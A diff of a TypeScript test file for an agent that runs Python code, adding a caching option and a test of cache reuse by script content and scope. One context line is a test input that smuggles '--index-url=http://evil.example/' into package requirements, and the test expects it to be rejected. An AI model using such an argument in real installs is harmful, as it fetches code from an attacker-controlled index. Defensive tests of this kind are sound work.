@@ -29,9 +29,18 @@ describe('the Python agent', () => {
     fs.mkdirSync(dir, { recursive: true });
     return dir;
   };
-  const run = async (input: Record<string, unknown>, options: { workDir?: string; scope?: string; timeoutSeconds?: number } = {}) => {
+  const run = async (input: Record<string, unknown>, options: { workDir?: string; scope?: string; timeoutSeconds?: number; cache?: boolean } = {}) => {
     const workDir = options.workDir ?? newDir();
-    const envelope = await executeAgent({ registry, agentId: 'python', skillId: 'python.run', input, workDir, scope: options.scope ?? 'tests', noCache: true, ...(options.timeoutSeconds ? { timeoutSeconds: options.timeoutSeconds } : {}) });
+    const envelope = await executeAgent({
+      registry,
+      agentId: 'python',
+      skillId: 'python.run',
+      input,
+      workDir,
+      scope: options.scope ?? 'tests',
+      noCache: !options.cache,
+      ...(options.timeoutSeconds ? { timeoutSeconds: options.timeoutSeconds } : {}),
+    });
     return { envelope, outputs: envelope.outputs as unknown as PythonOutputs, workDir };
   };
 
@@ -169,6 +178,25 @@ describe('the Python agent', () => {
     const sneaky = await run({ code: 'print(1)', requirements: ['--index-url=http://evil.example/'] });
     expect(sneaky.envelope.status).toBe('rejected');
   }, 120_000);
+
+  it('reuses a cached result only for the same script content in the same scope', async () => {
+    const dir = newDir();
+    const script = path.join(dir, 'count.py');
+    const counter = path.join(dir, 'runs.txt');
+    fs.writeFileSync(script, 'import os\nn = int(open("runs.txt").read()) + 1 if os.path.exists("runs.txt") else 1\nopen("runs.txt", "w").write(str(n))\nprint("v1")\n');
+    const first = await run({ file: 'count.py' }, { workDir: dir, cache: true });
+    const again = await run({ file: 'count.py' }, { workDir: dir, cache: true });
+    expect(again.envelope.metrics.cacheHit).toBe(1);
+    expect(fs.readFileSync(counter, 'utf8')).toBe('1');
+    fs.writeFileSync(script, fs.readFileSync(script, 'utf8').replace('v1', 'v2'));
+    const edited = await run({ file: 'count.py' }, { workDir: dir, cache: true });
+    expect(edited.envelope.metrics.cacheHit).toBeUndefined();
+    expect(edited.outputs.stdout).toBe('v2\n');
+    const otherScope = await run({ file: 'count.py' }, { workDir: dir, cache: true, scope: 'elsewhere' });
+    expect(otherScope.envelope.metrics.cacheHit).toBeUndefined();
+    expect(fs.readFileSync(counter, 'utf8')).toBe('3');
+    expect(first.outputs.stdout).toBe('v1\n');
+  });
 
   it('keeps one environment per scope', async () => {
     const code = 'import sys, json\nprint(json.dumps(sys.prefix))';
